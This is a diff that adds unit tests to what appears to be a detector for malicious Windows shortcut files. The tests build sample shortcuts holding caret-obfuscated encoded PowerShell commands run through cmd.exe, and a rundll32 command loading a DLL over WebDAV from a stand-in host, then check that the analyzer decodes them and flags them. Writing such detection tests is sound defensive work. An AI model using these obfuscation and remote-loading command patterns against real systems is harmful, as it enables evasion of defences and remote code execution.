@@ -526,6 +526,48 @@ static void execution_policy_is_not_encoded_command(void **state)
 	g_byte_array_unref(b);
 }
 
+static void cmd_carets_and_quoted_chains_still_decode(void **state)
+{
+	(void)state;
+	g_autofree char *b64 = encode_ps("Start-Process calc");
+	/* cmd drops ^ outside quotes; cmd /c "X args" runs X args */
+	g_autofree char *caret = g_strdup_printf("/c p^ow^er^shell -^e^n^c %s", b64);
+	g_autofree char *quoted = g_strdup_printf("/c \"powershell.exe -nop -e %s\"", b64);
+	const char *const lines[] = {caret, quoted};
+	for (size_t i = 0; i < G_N_ELEMENTS(lines); i++) {
+		GByteArray *b = simple_lnk("C:\\Windows\\System32\\cmd.exe", lines[i], NULL);
+		ks_report *r = analyze_attached(b, "a.lnk");
+		const ks_finding *enc = find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL);
+		if (!enc)
+			fail_msg("%s not decoded", lines[i]);
+		assert_non_null(strstr(enc->evidence, "Start-Process calc"));
+		const ks_finding *run = find_rule(r, KS_RULE_LNK_COMMAND_EXECUTION);
+		assert_non_null(run);
+		assert_non_null(strstr(run->evidence, "runs cmd -> powershell"));
+		ks_report_free(r);
+		g_byte_array_unref(b);
+	}
+	/* carets mean nothing to PowerShell itself: no unescaping there */
+	g_autofree char *direct = g_strdup_printf("-^e^n^c %s", b64);
+	GByteArray *b = simple_lnk("C:\\x\\powershell.exe", direct, NULL);
+	ks_report *r = analyze_attached(b, "a.lnk");
+	assert_null(find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL));
+	ks_report_free(r);
+	g_byte_array_unref(b);
+}
+
+static void unc_host_in_arguments_is_an_ioc(void **state)
+{
+	(void)state;
+	GByteArray *b = simple_lnk("C:\\Windows\\System32\\rundll32.exe",
+	                           "\\\\files.example.net@SSL\\dav\\x.dll,Run C:\\\\tmp\\\\a.ps1", NULL);
+	ks_report *r = analyze_attached(b, "a.lnk");
+	assert_true(has_ioc(r, KS_IOC_DOMAIN, "files.example.net"));
+	assert_false(has_ioc(r, KS_IOC_DOMAIN, "a.ps1"));
+	ks_report_free(r);
+	g_byte_array_unref(b);
+}
+
 static void padded_arguments_are_flagged_and_tail_kept_in_evidence(void **state)
 {
 	(void)state;
@@ -629,6 +671,8 @@ int main(void)
 		cmocka_unit_test(encoded_powershell_decodes_the_script_and_finds_iocs),
 		cmocka_unit_test(encoded_switch_prefixes_and_slash_are_recognised),
 		cmocka_unit_test(execution_policy_is_not_encoded_command),
+		cmocka_unit_test(cmd_carets_and_quoted_chains_still_decode),
+		cmocka_unit_test(unc_host_in_arguments_is_an_ioc),
 		cmocka_unit_test(padded_arguments_are_flagged_and_tail_kept_in_evidence),
 		cmocka_unit_test(env_target_decides_command_execution),
 		cmocka_unit_test(ordinary_shortcut_raises_nothing),
